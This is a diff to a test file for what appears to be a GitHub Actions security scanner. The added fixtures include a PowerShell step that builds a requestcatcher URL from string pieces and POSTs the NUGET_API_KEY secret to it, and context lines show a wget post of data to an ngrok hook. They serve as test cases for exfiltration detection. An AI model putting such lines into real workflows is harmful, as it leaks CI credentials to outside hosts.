@@ -492,6 +492,14 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
           wget -qO- --post-data "d=$P" https://hook-relay.ngrok-free.app/in
 `)}`;
     expect(only(quoted, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 9]]);
+    const pwsh = `on: push\n${job(`      - shell: pwsh
+        env:
+          T: \${{ secrets.NUGET_API_KEY }}
+        run: |
+          $u = 'https://' + 'acme-stats' + '.requestcatcher.com/t'
+          Invoke-RestMethod -Uri $u -Method Post -Body $env:T
+`)}`;
+    expect(only(pwsh, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 11]]);
   });
 
   it('leaves a secret sent to its own service through the script\'s variables, and a here-document of public text sent to a collector-looking webhook', () => {
@@ -499,6 +507,15 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(only(hook, 'gha-secrets-exfiltration')).toEqual([]);
     const whoami = `on: push\n${job('      - run: |\n          TOKEN="${{ secrets.NPM_TOKEN }}"\n          REG=https://registry.npmjs.org\n          curl -fsS -H "Authorization: Bearer $TOKEN" "$REG/-/whoami"\n')}`;
     expect(only(whoami, 'gha-secrets-exfiltration')).toEqual([]);
+    const nuget = `on: push\n${job(`      - shell: pwsh
+        env:
+          T: \${{ secrets.NUGET_API_KEY }}
+        run: |
+          $feed = 'https://' + 'api.nuget.org' + '/v3/index.json'
+          dotnet nuget push out/*.nupkg --source $feed --api-key $env:T
+          Invoke-RestMethod -Uri $feed
+`)}`;
+    expect(only(nuget, 'gha-secrets-exfiltration')).toEqual([]);
     const notes = `on: release\n${job(`      - run: |
           NOTES="$(cat <<'EOF'
           \${{ github.event.release.name }} is out
